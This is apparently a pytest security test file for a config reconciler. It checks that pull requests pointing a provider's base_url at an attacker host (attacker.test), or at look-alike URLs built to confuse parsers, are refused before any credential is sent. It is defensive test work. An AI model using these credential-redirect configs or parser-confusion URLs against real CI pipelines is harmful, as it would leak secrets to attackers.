"""Credentials go only to approved endpoints: a pull request that points a provider's ``base_url`` at
its own host gets an error at that config line, and not one request reaches the host."""

from __future__ import annotations

import re

import pytest

from reconciler.manifest.endpoints import endpoint_problem, parse_approvals
from tests.security.conftest import (
    BP_APP_KEY,
    TCAPLUS_PROTOS,
    Attacker,
    Emulators,
    Repo,
    account,
    config_text,
    event_doc,
    players_record,
    records_doc,
)

MANIFESTS = {
    "bestproxy": account(),
    "tcaplus": records_doc("pr-records", [players_record(1)]),
    "jdb": event_doc(),
}


def _base_url_line(repo: Repo) -> int:
    text = (repo.root / "reconciler.yaml").read_text(encoding="utf-8")
    return next(n for n, line in enumerate(text.splitlines(), 1) if "attacker.test" in line)


def _setup(repo: Repo, emulators: Emulators, vendor: str, url: str) -> None:
    repo.write("tables/game_players.proto", (TCAPLUS_PROTOS / "game_players.proto").read_text(encoding="utf-8"))
    repo.write("reconciler.yaml", config_text(emulators, **{vendor: url}))
    repo.write("manifests/pr.yaml", MANIFESTS[vendor])


@pytest.mark.parametrize("vendor", ["bestproxy", "tcaplus", "jdb"])
def test_a_pull_request_pointing_a_provider_at_its_own_host_gets_an_error_and_no_request(
    repo: Repo, emulators: Emulators, attacker: Attacker, vendor: str
) -> None:
    _setup(repo, emulators, vendor, f"http://attacker.test:{attacker.port}")
    r = repo.run_process("plan", "--out", "plan.json", "--format", "markdown", attacker=attacker)
    assert r.code == 1, r.output
    assert re.search(
        rf"^error: reconciler\.yaml:{_base_url_line(repo)}:15: Config providers\.{vendor}\.base_url: "
        rf"host attacker\.test is not an approved {vendor} endpoint",
        r.stderr,
        re.M,
    ), r.stderr
    assert "Traceback" not in r.stderr
    assert attacker.requests == []
    repo.assert_no_secret(r)


def test_positive_control_an_approved_host_does_receive_the_credential(
    repo: Repo, emulators: Emulators, attacker: Attacker
) -> None:
    """The listener really would see a leak: approved from outside the repository, the request goes there."""
    _setup(repo, emulators, "bestproxy", f"http://attacker.test:{attacker.port}")
    r = repo.run_process(
        "plan", attacker=attacker, RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}"
    )
    assert r.code == 0, r.output
    assert attacker.requests and BP_APP_KEY in "".join(attacker.requests)
    flag = repo.run_process("plan", f"--allow-endpoint=bestproxy=http://attacker.test:{attacker.port}", attacker=attacker)
    assert flag.code == 0, flag.output


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:1@attacker.test:{port}/",  # user info: one parser's host is another's password
        "http://attacker.test:{port}#@127.0.0.1/",
        "http://attacker.test.:{port}/",
        "http://api.bestproxy.com.attacker.test:{port}/",
        "http://api.bestproxy.com:{port}/",  # the documented host, but not over HTTPS
    ],
)
def test_look_alike_urls_are_refused(repo: Repo, emulators: Emulators, attacker: Attacker, url: str) -> None:
    _setup(repo, emulators, "bestproxy", url.format(port=attacker.port))
    r = repo.run_process("plan", attacker=attacker)
    assert r.code == 1 and "Config providers.bestproxy.base_url" in r.stderr, r.output
    assert attacker.requests == []
    repo.assert_no_secret(r)


def test_connections_come_from_the_target_branch_config(repo: Repo, emulators: Emulators, attacker: Attacker) -> None:
    """RECONCILER_CONNECTIONS_FROM (the target branch's reconciler.yaml, written by the pipeline):
    the pull request's base_url, even an approved one, is not used."""
    _setup(repo, emulators, "bestproxy", f"http://attacker.test:{attacker.port}")
    trusted = repo.ci / "target-branch.yaml"
    trusted.write_text(config_text(emulators), encoding="utf-8")
    r = repo.run_process(
        "plan",
        "--out",
        "plan.json",
        attacker=attacker,
        RECONCILER_CONNECTIONS_FROM=str(trusted),
        RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}",
    )
    assert r.code == 0, r.output
    assert "+ create ProxyAccount/pr01" in r.stdout
    assert attacker.requests == []
    repo.assert_no_secret(r)


def test_a_pull_request_cannot_swap_credential_references_under_trusted_connections(
    repo: Repo, emulators: Emulators, attacker: Attacker
) -> None:
    """With the target branch's connections, app_key: env:JDB_KEY in the PR's config changes nothing."""
    _setup(repo, emulators, "bestproxy", emulators.bestproxy.url)
    repo.write("reconciler.yaml", config_text(emulators).replace("app_key: env:BESTPROXY_APP_KEY", "app_key: env:JDB_KEY"))
    trusted = repo.ci / "target-branch.yaml"
    trusted.write_text(config_text(emulators), encoding="utf-8")
    r = repo.run_process("plan", RECONCILER_CONNECTIONS_FROM=str(trusted))
    assert r.code == 0, r.output  # the emulator accepted the real app_key: the PR's reference was ignored


def test_documented_loopback_and_approved_hosts() -> None:
    assert endpoint_problem("https://api.bestproxy.com", "bestproxy", []) is None
    assert endpoint_problem("https://API.BestProxy.com/", "bestproxy", []) is None
    assert endpoint_problem("https://api.bestproxy.com", "jdb", []) is not None  # another vendor's host
    for url in ("http://127.0.0.1:8080", "http://127.8.9.10", "http://[::1]:81", "http://localhost:3"):
        assert endpoint_problem(url, "tcaplus", []) is None, url
    approvals = parse_approvals("tcaplus=http://tcaplus.corp.internal:31002, jdb=https://jdb.example.com")
    assert endpoint_problem("http://tcaplus.corp.internal:31002", "tcaplus", approvals) is None
    assert endpoint_problem("http://tcaplus.corp.internal:80", "tcaplus", approvals) is not None  # other port
    assert endpoint_problem("https://jdb.example.com/apiRequest.do", "jdb", approvals) is None
    assert endpoint_problem("http://jdb.example.com", "jdb", approvals) is not None  # other scheme


def test_a_named_connection_pointing_at_the_attackers_host_is_refused_at_its_line(
    repo: Repo, emulators: Emulators, attacker: Attacker
) -> None:
    _setup(repo, emulators, "bestproxy", emulators.bestproxy.url)
    repo.write(
        "reconciler.yaml",
        config_text(
            emulators,
            extra=f"""\
connections:
  bestproxy:
    eu:
      base_url: http://attacker.test:{attacker.port}
      app_key: env:BESTPROXY_APP_KEY
""",
        ),
    )
    repo.write("manifests/pr.yaml", account().replace("metadata: {name: pr01}", "metadata: {name: pr01, connection: eu}"))
    r = repo.run_process("plan", attacker=attacker)
    assert r.code == 1, r.output
    line = _base_url_line(repo)
    assert (
        f"error: reconciler.yaml:{line}:17: Config connections.bestproxy.eu.base_url: host attacker.test is not an approved"
        in r.stderr
    ), r.stderr
    assert attacker.requests == []
    repo.assert_no_secret(r)


def test_trusted_connections_replace_named_connections_too(repo: Repo, emulators: Emulators, attacker: Attacker) -> None:
    named = "connections:\n  bestproxy:\n    eu:\n      base_url: {url}\n      app_key: env:BESTPROXY_APP_KEY\n"
    _setup(repo, emulators, "bestproxy", emulators.bestproxy.url)
    repo.write("reconciler.yaml", config_text(emulators, extra=named.format(url=f"http://attacker.test:{attacker.port}")))
    repo.write("manifests/pr.yaml", account().replace("metadata: {name: pr01}", "metadata: {name: pr01, connection: eu}"))
    trusted = repo.ci / "target-branch.yaml"
    trusted.write_text(config_text(emulators, extra=named.format(url=emulators.bestproxy.url)), encoding="utf-8")
    r = repo.run_process(
        "plan",
        attacker=attacker,
        RECONCILER_CONNECTIONS_FROM=str(trusted),
        RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}",
    )
    assert r.code == 0, r.output
    assert attacker.requests == []
    repo.assert_no_secret(r)


def test_the_check_and_the_transport_see_one_host() -> None:
    """The URL parse the endpoint check judges is the one the transport connects with: tricks
    that make two parsers disagree are refused, and what passes names the same host in both."""
    from reconciler.clients.http import HttpTransport
    from reconciler.manifest.endpoints import split_base_url

    for url in (
        "http://attacker.test\\@127.0.0.1:80/",
        "http://user:pw@127.0.0.1",
        "http://127.0.0.1@attacker.test",
        "http://127.0.0.1:80 @attacker.test",
        "http://127.0.0.1\t.attacker.test",
        "http://127.0.0.1:99999",
        "http://127.0.0.1/?x=1",
        "http://127.0.0.1#frag",
        "ftp://127.0.0.1",
        "http://",
        "http://a_b%2e:1",
    ):
        problem = endpoint_problem(url, "tcaplus", [])
        assert problem is not None, url
        with pytest.raises(ValueError):
            HttpTransport(url, vendor="tcaplus")
    for url, host in (
        ("http://127.0.0.1:8080/base/", "127.0.0.1:8080"),
        ("http://[::1]:81", "[::1]:81"),
        ("http://LocalHost.:3", "localhost:3"),
        ("https://API.BestProxy.com/", "api.bestproxy.com"),
    ):
        assert endpoint_problem(url, "bestproxy", []) is None, url
        assert HttpTransport(url, vendor="bestproxy").host == host
    assert split_base_url("http://127.0.0.1:8080/base/").path == "/base"
